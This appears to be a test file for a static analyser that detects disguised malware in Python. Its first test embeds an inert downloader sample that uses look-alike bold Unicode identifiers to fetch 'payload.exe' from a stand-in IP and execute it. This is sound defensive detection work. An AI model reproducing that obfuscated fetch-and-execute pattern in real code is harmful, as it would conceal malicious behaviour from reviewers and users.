// Ways real malware hides what it does from a reader, each on an inert imitation: names in look-alike Unicode
// letters that Python normalises, commands and hosts passed through the file's own helper functions.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { initAnalysis } from '../../src/analysis/api.ts';
import { analyzePythonFile } from '../../src/analysis/python-file.ts';
import type { Finding } from '../../src/model/result.ts';

before(() => initAnalysis());

function findings(source: string, path = 'demo/mod.py'): Finding[] {
  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
}
const ruleOf = (list: Finding[], rule: string) => list.find((f) => f.rule === rule);

test('names in look-alike Unicode letters resolve as Python reads them (NFKC), and the disguise is reported', () => {
  const source = [
    'import requests, subprocess',
    '𝘂𝗿𝗹 = "http://192.0.2.10/payload.exe"',
    '𝗿𝗲𝘀𝗽𝗼𝗻𝘀𝗲 = 𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀.𝗴𝗲𝘁(𝘂𝗿𝗹)',
    "with open('/tmp/p.exe', 'wb') as f:",
    '    f.write(𝗿𝗲𝘀𝗽𝗼𝗻𝘀𝗲.content)',
    "𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀.call(['/tmp/p.exe'])",
  ].join('\n');
  const list = findings(source);
  const call = ruleOf(list, 'egress-network-call');
  assert.equal(call?.destination?.host, '192.0.2.10', 'requests.get written in bold letters is still requests.get');
  assert.equal(call?.line, 3, 'line numbers are those of the file as written');
  assert.match(call?.code ?? '', /𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀/, 'the code shown is the code as written');
  assert.ok(ruleOf(list, 'process-launch-payload'), 'subprocess.call written in bold letters is still found');
  const disguise = ruleOf(list, 'unicode-disguised-name');
  assert.equal(disguise?.severity, 'high', 'several hidden names');
  assert.match(disguise!.message, /'requests'/);
});

test('plain non-ASCII names that Python keeps as they are (Greek, accented) are not a disguise', () => {
  const list = findings('λ = 2\nnaïve = λ * 3\nµ = 1\n');
  assert.equal(ruleOf(list, 'unicode-disguised-name'), undefined, 'µ normalises to Greek mu, not to ASCII');
  const one = ruleOf(findings('𝑥 = 1\n'), 'unicode-disguised-name');
  assert.equal(one?.severity, 'medium', 'one short maths letter stays medium');
});
